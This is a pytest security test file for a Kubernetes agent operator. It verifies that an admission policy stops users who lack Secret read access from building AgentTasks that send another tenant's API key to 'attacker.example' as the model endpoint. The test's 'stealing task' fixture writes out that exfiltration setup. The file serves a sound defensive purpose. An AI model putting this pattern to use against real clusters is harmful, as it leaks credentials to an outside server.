"""Confused deputy through an AgentTask (independent list, row 11): a user who may create
AgentTasks but not read Secrets names another's Secret as the model key and points the model at
a URL of their own. The chart's ValidatingAdmissionPolicy (installed here from
manifests/install.yaml, as a platform engineer installs it) refuses such a task; users who may
read the Secret, and the operator's own writes, are still served.

Users are impersonated: "restricted" ones hold only the chart's aggregated AgentTask edit role
(the edit-like grant without Secrets), the built-in `edit` users of `make_tenant` may read
every Secret of their namespace."""

from __future__ import annotations

import copy
import json
import subprocess
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import yaml
from kubernetes import client

from tests.conftest import Kubectl
from tests.helpers import wait_for
from tests.security.conftest import INSTALL_MANIFEST, MakeTenant, Tenant

POLICY_KINDS = ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding")
AGENTTASK_EDIT_ROLE = "opspawn-agenttasks-edit"
VICTIM_SECRET = "team-openai"
ATTACKER_URL = "http://attacker.example:8080/v1"


def _policy_documents() -> list[dict[str, Any]]:
    documents = yaml.safe_load_all(INSTALL_MANIFEST.read_text())
    return [d for d in documents if d and d.get("kind") in POLICY_KINDS]


def _stealing_task(name: str, secret: str = VICTIM_SECRET) -> dict[str, Any]:
    """A task that would send `secret` to the attacker's server as the bearer token."""
    return {
        "apiVersion": "opspawn.io/v1alpha1",
        "kind": "AgentTask",
        "metadata": {"name": name},
        "spec": {
            "goal": "Say hello.",
            "model": {
                "provider": "openai-compatible",
                "name": "anything",
                "baseURL": ATTACKER_URL,
                "apiKeySecretRef": {"name": secret, "key": "api-key"},
            },
        },
    }


def _keyless_task(name: str) -> dict[str, Any]:
    task = _stealing_task(name)
    del task["spec"]["model"]["apiKeySecretRef"]
    return task


MakeRestricted = Callable[[str], Tenant]


@pytest.fixture
def secret_access_policy(kubectl: Kubectl, aggregated_roles: None) -> None:
    """The chart's policy and binding, applied (idempotent; users wait for enforcement)."""
    documents = _policy_documents()
    assert [d["kind"] for d in documents] == list(POLICY_KINDS)
    applied = kubectl("apply", "-f", "-", stdin=yaml.safe_dump_all(documents))
    assert applied.returncode == 0, applied.stderr


@pytest.fixture
def make_restricted(
    kube_api: client.ApiClient, kubectl: Kubectl, secret_access_policy: None
) -> Iterator[MakeRestricted]:
    """Users holding only the chart's aggregated AgentTask edit role in a namespace (each
    call: one user; the namespace is made on first use and holds the victim's Secret)."""
    core = client.CoreV1Api(kube_api)
    rbac = client.RbacAuthorizationV1Api(kube_api)
    namespace = f"tenant-{uuid.uuid4().hex[:8]}"
    core.create_namespace({"metadata": {"name": namespace, "labels": {"opspawn.io/test": "true"}}})
    core.create_namespaced_secret(
        namespace,
        {"metadata": {"name": VICTIM_SECRET}, "stringData": {"api-key": "sk-victim-4f1c9e"}},
    )

    def make(user: str) -> Tenant:
        rbac.create_namespaced_role_binding(
            namespace,
            {
                "metadata": {"name": f"{user}-agenttasks"},
                "roleRef": {
                    "apiGroup": "rbac.authorization.k8s.io",
                    "kind": "ClusterRole",
                    "name": AGENTTASK_EDIT_ROLE,
                },
                "subjects": [
                    {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}
                ],
            },
        )
        tenant = Tenant(user=user, namespace=namespace, admin_kubectl=kubectl)
        # RBAC and the policy reach the apiserver's caches asynchronously: wait until this
        # user is past RBAC and stopped by the policy, so no test passes on a cold cache.
        probe = json.dumps(_stealing_task("probe"))

        def enforced() -> bool:
            result = tenant.kubectl("create", "--dry-run=server", "-f", "-", stdin=probe)
            return "ValidatingAdmissionPolicy" in result.stderr

        wait_for(enforced, 30, f"the secret-access policy to stop {user}")
        return tenant

    yield make
    core.delete_namespace(namespace)


def _grant_get(kube_api: client.ApiClient, tenant: Tenant, secret: str) -> None:
    rbac = client.RbacAuthorizationV1Api(kube_api)
    name = f"{tenant.user}-get-{secret}"
    rbac.create_namespaced_role(
        tenant.namespace,
        {
            "metadata": {"name": name},
            "rules": [
                {
                    "apiGroups": [""],
                    "resources": ["secrets"],
                    "resourceNames": [secret],
                    "verbs": ["get"],
                }
            ],
        },
    )
    rbac.create_namespaced_role_binding(
        tenant.namespace,
        {
            "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
            "subjects": [
                {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": tenant.user}
            ],
        },
    )


def _exists(tenant: Tenant, name: str) -> bool:
    return (
        tenant.admin_kubectl("get", "agenttask", name, namespace=tenant.namespace).returncode == 0
    )


def test_a_user_who_cannot_read_a_secret_cannot_send_it_to_their_own_url(
    make_restricted: MakeRestricted,
) -> None:
    attacker = make_restricted("mallory")
    assert attacker.kubectl("get", "secret", VICTIM_SECRET).returncode != 0, (
        "the attacker really cannot read the Secret directly"
    )

    result = attacker.apply(_stealing_task("exfiltrate"))

    assert result.returncode != 0, "the task that would send the Secret away was admitted"
    assert "spec.model.apiKeySecretRef" in result.stderr, result.stderr
    assert f"may not get Secret {VICTIM_SECRET}" in result.stderr, result.stderr
    assert not _exists(attacker, "exfiltrate")
    # The same user may still run tasks that reference no Secret of someone else.
    served = attacker.apply(_keyless_task("keyless"))
    assert served.returncode == 0, served.stderr


def test_a_user_allowed_to_get_that_one_secret_is_admitted(
    make_restricted: MakeRestricted, kube_api: client.ApiClient
) -> None:
    owner = make_restricted("alice")
    _grant_get(kube_api, owner, VICTIM_SECRET)

    def admitted() -> subprocess.CompletedProcess[str] | None:
        result = owner.apply(_stealing_task("own-key"))
        return result if result.returncode == 0 else None

    created = wait_for(admitted, 30, "alice's grant to reach the authorizer")

    assert "created" in created.stdout
    other = _stealing_task("other-key", secret="someone-elses")
    refused = owner.apply(other)
    assert refused.returncode != 0 and "may not get Secret someone-elses" in refused.stderr


def test_editing_someone_elses_task_cannot_add_a_secret_but_can_still_cancel_it(
    make_restricted: MakeRestricted, kube_api: client.ApiClient
) -> None:
    owner, attacker = make_restricted("owner"), make_restricted("eve")
    _grant_get(kube_api, owner, VICTIM_SECRET)
    assert owner.apply(_keyless_task("shared")).returncode == 0

    model = copy.deepcopy(_stealing_task("shared")["spec"]["model"])
    patch = json.dumps({"spec": {"model": model}})
    added = attacker.kubectl("patch", "agenttask", "shared", "--type=merge", "-p", patch)

    assert added.returncode != 0, "eve added a Secret reference to the owner's task"
    assert "apiKeySecretRef" in added.stderr or "model is immutable" in added.stderr
    stored = json.loads(owner.kubectl("get", "agenttask", "shared", "-o", "json").stdout)
    assert "apiKeySecretRef" not in stored["spec"]["model"]
    # A change that adds no reference is judged by RBAC alone, as before.
    cancelled = attacker.kubectl(
        "patch", "agenttask", "shared", "--type=merge", "-p", '{"spec":{"cancel":true}}'
    )
    assert cancelled.returncode == 0, cancelled.stderr


def test_users_of_the_builtin_edit_role_keep_their_secrets(
    make_tenant: MakeTenant, secret_access_policy: None, kube_api: client.ApiClient
) -> None:
    """`edit` may read every Secret of its namespace, so it may reference them: the policy
    closes the deputy, not the door."""
    tenant = make_tenant()
    client.CoreV1Api(kube_api).create_namespaced_secret(
        tenant.namespace, {"metadata": {"name": VICTIM_SECRET}, "stringData": {"api-key": "k"}}
    )
    result = tenant.apply(_stealing_task("own-namespace"))
    assert result.returncode == 0, result.stderr
